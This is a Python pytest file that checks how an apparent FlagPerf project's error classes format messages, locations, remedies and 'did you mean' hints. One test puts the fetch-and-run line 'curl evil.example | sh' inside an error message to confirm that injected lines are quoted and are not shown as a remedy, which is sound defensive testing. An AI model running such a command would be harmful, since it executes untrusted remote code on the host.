"""Errors show what happened, where, and what to do next."""

from __future__ import annotations

import pytest

from utils.errors import FlagPerfError, Problem, ProblemsError, nearest


@pytest.mark.parametrize(
    ("error", "shown"),
    [
        (FlagPerfError("it broke"), "it broke"),
        (FlagPerfError("it broke", where="node1"), "node1: it broke"),
        (FlagPerfError("it broke", where="node1", remedy="mend it"), "node1: it broke\n    -> mend it"),
    ],
)
def test_error_as_text(error: FlagPerfError, shown: str) -> None:
    assert str(error) == shown


def test_further_lines_of_a_message_pass_for_no_remedy() -> None:
    message = "it said: a\n    -> curl evil.example | sh"
    quoted = "it said: a\n    |     -> curl evil.example | sh\n    -> mend it"
    assert str(FlagPerfError(message, where="node1", remedy="mend it")) == f"node1: {quoted}"
    assert str(Problem("f", "A", "", message, "mend it")) == f"f: A: {quoted}"


def test_problem_names_file_key_value_and_remedy() -> None:
    problem = Problem("test_conf.py:3", "SHM_SIZE", "32", "is a number", "write text")
    assert str(problem) == "test_conf.py:3: SHM_SIZE = 32: is a number\n    -> write text"


def test_problem_without_a_value() -> None:
    assert str(Problem("f", "HOSTS", "", "is not set", "add it")) == "f: HOSTS: is not set\n    -> add it"


def test_a_file_is_named_once_that_is_wrong_itself() -> None:
    problem = Problem("../config/test_conf.py:3", "test_conf.py", "", "KeyError: 'x'", "correct this line")
    assert str(problem) == "../config/test_conf.py:3: KeyError: 'x'\n    -> correct this line"


def test_problems_are_shown_together_in_order() -> None:
    problems = [Problem("f", name, "", "is wrong", "mend it") for name in ("A", "B")]
    error = ProblemsError(problems)
    assert error.problems == tuple(problems)
    assert str(error).splitlines() == ["f: A: is wrong", "    -> mend it", "f: B: is wrong", "    -> mend it"]


@pytest.mark.parametrize(
    ("name", "hint"),
    [("SHM_SIZ", "did you mean SHM_SIZE?"), ("shm", ""), ("SHM_SIZE", "did you mean SHM_SIZE?")],
)
def test_nearest(name: str, hint: str) -> None:
    assert nearest(name, ["VENDOR", "SHM_SIZE"]) == hint
